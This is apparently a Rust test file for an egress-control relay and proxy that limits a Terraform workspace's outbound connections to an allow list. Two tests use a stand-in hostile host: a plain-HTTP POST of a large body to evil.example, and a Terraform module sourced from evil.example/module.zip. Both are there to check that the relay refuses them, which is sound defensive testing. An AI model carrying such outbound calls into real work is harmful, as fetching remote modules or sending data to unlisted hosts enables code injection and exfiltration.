//! Both halves, as they stand in a run: programs on one side, servers on the other.

use std::io::{Read, Write};
use std::net::{Shutdown, TcpStream as Blocking};

use super::relay::{RelayEntry, RelaySpec, Taken, environment, hosts_lines, start};
use super::*;

fn spec(entries: &[&str]) -> RelaySpec {
    let allow = AllowList::parse(entries.iter().copied()).unwrap();
    let proxy = "127.0.0.1:3128".parse().unwrap();
    let state = Some("127.0.0.1:8099".parse().unwrap());
    RelaySpec::new("/run/egress".into(), proxy, state, &allow).unwrap()
}

#[test]
fn configurations_stay_as_they_are() {
    let spec = spec(&[
        "https://registry.terraform.io",
        "tcp://127.0.0.1:5000",
        "tcp://db.internal:5432",
        "tcp://db.internal:5433",
        "tcp://[::1]:6000",
        "tcp://cache.internal:6379",
        "tcp://localhost:5000",
    ]);
    let entry = |number, host: &str, listen: &str| RelayEntry {
        number,
        host: Host::parse(host).unwrap(),
        listen: listen.parse().unwrap(),
    };
    let expected = [
        entry(0, "127.0.0.1", "127.0.0.1:5000"),
        entry(1, "db.internal", "127.1.0.1:5432"),
        entry(2, "db.internal", "127.1.0.1:5433"),
        entry(3, "::1", "[::1]:6000"),
        entry(4, "cache.internal", "127.1.0.2:6379"),
        entry(5, "localhost", "[::1]:5000"),
    ];
    assert_eq!(spec.entries, expected);
    let hosts = [
        "127.0.0.1 localhost",
        "::1 localhost",
        "127.1.0.1 db.internal",
        "127.1.0.2 cache.internal",
    ];
    assert_eq!(hosts_lines(&spec), hosts);
    let variables = environment(&spec);
    let value = |name: &str| {
        let found = variables.iter().find(|(known, _)| known == name);
        found.unwrap().1.as_str()
    };
    let direct = "localhost,127.0.0.0/8,::1,db.internal:5432,db.internal:5433,cache.internal:6379";
    for name in ["HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"] {
        assert_eq!(value(name), "http://127.0.0.1:3128");
    }
    assert_eq!((value("NO_PROXY"), value("no_proxy")), (direct, direct));
    let json = serde_json::to_string(&spec).unwrap();
    assert_eq!(serde_json::from_str::<RelaySpec>(&json).unwrap(), spec);
}

#[test]
fn hundreds_of_names_have_an_address_each() {
    let names: Vec<String> = (0..256)
        .map(|number| format!("tcp://h{number}:1"))
        .collect();
    let spec = spec(&names.iter().map(String::as_str).collect::<Vec<_>>());
    let mut addresses: Vec<SocketAddr> = spec.entries.iter().map(|entry| entry.listen).collect();
    assert_eq!(addresses[255].to_string(), "127.1.1.6:1");
    addresses.sort();
    addresses.dedup();
    assert_eq!(addresses.len(), 256);
}

#[test]
fn an_entry_does_not_take_the_place_of_the_proxy_or_the_state() {
    for place in ["127.0.0.1:3128", "127.0.0.1:8099"] {
        let allow = AllowList::parse([format!("tcp://{place}").as_str()]).unwrap();
        let (proxy, state) = (
            "127.0.0.1:3128".parse().unwrap(),
            "127.0.0.1:8099".parse().unwrap(),
        );
        let spec = RelaySpec::new("/s".into(), proxy, Some(state), &allow);
        assert_eq!(spec, Err(Taken(place.parse().unwrap())));
    }
}

#[test]
fn a_place_that_is_taken_is_named() {
    let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let mut spec = spec(&[]);
    spec.proxy = taken.local_addr().unwrap();
    let error = start(&spec).unwrap_err().to_string();
    assert!(
        error.starts_with(&format!("cannot listen on {}", spec.proxy)),
        "{error}"
    );
}

/// A run with a relay in front of it. Ports are whatever is free.
struct Inside {
    run: Run,
    relays: relay::Relays,
    proxy: SocketAddr,
    state: SocketAddr,
}

fn inside(run: Run, entries: &[SocketAddr]) -> Inside {
    let entry = |(number, listen): (usize, &SocketAddr)| RelayEntry {
        number,
        host: Host::parse("db.internal").unwrap(),
        listen: *listen,
    };
    let any = "127.0.0.1:0".parse().unwrap();
    let spec = RelaySpec {
        socket: run.socket(),
        proxy: any,
        state: Some(any),
        entries: entries.iter().enumerate().map(entry).collect(),
    };
    let relays = start(&spec).unwrap();
    let (proxy, state) = (relays.addresses()[0], relays.addresses()[1]);
    Inside {
        run,
        relays,
        proxy,
        state,
    }
}

/// A run that allows one `tcp` entry with an echo behind it, and where that is found inside.
async fn echoing() -> (Inside, SocketAddr) {
    let run = Run::new(&["tcp://db.internal:5432"]);
    run.world.name("db.internal", &[&["10.0.0.9"]]);
    run.world.route("10.0.0.9", echo().await);
    let inside = inside(run, &["127.1.0.1:0".parse().unwrap()]);
    let place = inside.relays.addresses()[2];
    (inside, place)
}

async fn blocking<T: Send + 'static>(work: impl FnOnce() -> T + Send + 'static) -> T {
    tokio::task::spawn_blocking(work).await.unwrap()
}

/// Sends bytes and reads as many back, at the same time.
fn round(place: SocketAddr, bytes: &[u8]) -> Vec<u8> {
    let mut stream = Blocking::connect(place).unwrap();
    let mut writing = stream.try_clone().unwrap();
    std::thread::scope(|scope| {
        scope.spawn(move || {
            writing.write_all(bytes).unwrap();
            writing.shutdown(Shutdown::Write).unwrap();
        });
        let mut back = Vec::new();
        stream.read_to_end(&mut back).unwrap();
        back
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn large_transfers_arrive_byte_by_byte_in_both_directions() {
    let (mut inside, place) = echoing().await;
    let bytes = noise(32 << 20);
    let sent = bytes.clone();
    let back = blocking(move || round(place, &sent)).await;
    assert!(
        back == bytes,
        "{} of {} bytes came back",
        back.len(),
        bytes.len()
    );
    assert_eq!(inside.run.event().await.stage, Stage::Opened);
    let closed = inside.run.event().await;
    assert_eq!(
        (closed.way, closed.bytes_up, closed.bytes_down),
        (Way::Tcp, 32 << 20, 32 << 20)
    );
    blocking(move || inside.relays.stop()).await;
    assert!(Blocking::connect(place).is_err());
}

#[tokio::test(flavor = "multi_thread")]
async fn sixty_four_at_once_do_not_mix() {
    let (mut inside, place) = echoing().await;
    let rounds = (0..64_u8).map(|number| {
        blocking(move || {
            let bytes: Vec<u8> = noise(200_000).iter().map(|byte| byte ^ number).collect();
            assert!(round(place, &bytes) == bytes, "{number}");
        })
    });
    let rounds: Vec<_> = rounds.map(tokio::spawn).collect();
    for round in rounds {
        round.await.unwrap();
    }
    let mut stages = Vec::new();
    for _ in 0..128 {
        stages.push(inside.run.event().await.stage);
    }
    let closed = stages
        .iter()
        .filter(|stage| **stage == Stage::Closed)
        .count();
    assert_eq!(closed, 64);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tunnel_goes_through_both_halves() {
    let run = Run::new(&["https://a.example"]);
    run.world.name("a.example", &[&[PUBLIC]]);
    run.world.route(PUBLIC, echo().await);
    let inside = inside(run, &[]);
    let proxy = inside.proxy;
    let hello = hello("a.example");
    let sent = hello.clone();
    let back = blocking(move || {
        let mut stream = Blocking::connect(proxy).unwrap();
        stream
            .write_all(b"CONNECT a.example:443 HTTP/1.1\r\n\r\n")
            .unwrap();
        let mut head = [0; 39];
        stream.read_exact(&mut head).unwrap();
        assert!(head.starts_with(b"HTTP/1.1 200 ") && head.ends_with(b"\r\n\r\n"));
        stream.write_all(&sent).unwrap();
        stream.shutdown(Shutdown::Write).unwrap();
        let mut back = Vec::new();
        stream.read_to_end(&mut back).unwrap();
        back
    });
    assert_eq!(back.await, hello);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_refusal_is_read_by_a_program_that_is_still_sending() {
    let mut inside = inside(Run::new(&[]), &[]);
    let proxy = inside.proxy;
    let answer = blocking(move || {
        let mut stream = Blocking::connect(proxy).unwrap();
        let head = b"POST http://evil.example/ HTTP/1.1\r\nContent-Length: 1000000\r\n\r\n";
        stream.write_all(head).unwrap();
        let _ = stream.write_all(&vec![b'x'; 1_000_000]);
        let mut answer = String::new();
        stream.read_to_string(&mut answer).unwrap();
        answer
    });
    let answer = answer.await;
    assert!(
        answer.starts_with("HTTP/1.1 403 Statehouse: plain HTTP"),
        "{answer}"
    );
    assert_eq!(inside.run.event().await.stage, Stage::Refused);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_state_is_found_at_its_own_address() {
    let mut inside = inside(Run::new(&[]), &[]);
    let state = inside.state;
    let asked = tokio::task::spawn_blocking(move || {
        let mut stream = Blocking::connect(state).unwrap();
        stream.write_all(b"GET / HTTP/1.1\r\n\r\n").unwrap();
        let mut back = String::new();
        stream.read_to_string(&mut back).unwrap();
        back
    });
    let mut served = inside.run.state.recv().await.unwrap();
    let mut got = [0; 18];
    served.read_exact(&mut got).await.unwrap();
    assert_eq!(&got, b"GET / HTTP/1.1\r\n\r\n");
    served.write_all(b"it is here").await.unwrap();
    drop(served);
    assert_eq!(asked.await.unwrap(), "it is here");
}

#[tokio::test(flavor = "multi_thread")]
async fn terraform_shows_why_it_was_refused() {
    let inside = inside(Run::new(&["https://a.example"]), &[]);
    let proxy = format!("http://{}", inside.proxy);
    let folder = TempDir::new().unwrap();
    let module = "module \"evil\" {\n  source = \"https://evil.example/module.zip\"\n}\n";
    fs_err::write(folder.path().join("main.tf"), module).unwrap();
    let output = blocking(move || {
        let mut terraform = std::process::Command::new("terraform");
        terraform.args(["get", "-no-color"]).current_dir(&folder);
        terraform
            .env("HTTPS_PROXY", proxy)
            .env("CHECKPOINT_DISABLE", "1");
        terraform.output().unwrap()
    });
    let words = String::from_utf8(output.await.stderr).unwrap();
    let words = words.split_whitespace().collect::<Vec<_>>().join(" ");
    let expected = "Statehouse: evil.example is not on the egress list of this workspace";
    assert!(words.replace(" │ ", " ").contains(expected), "{words}");
}
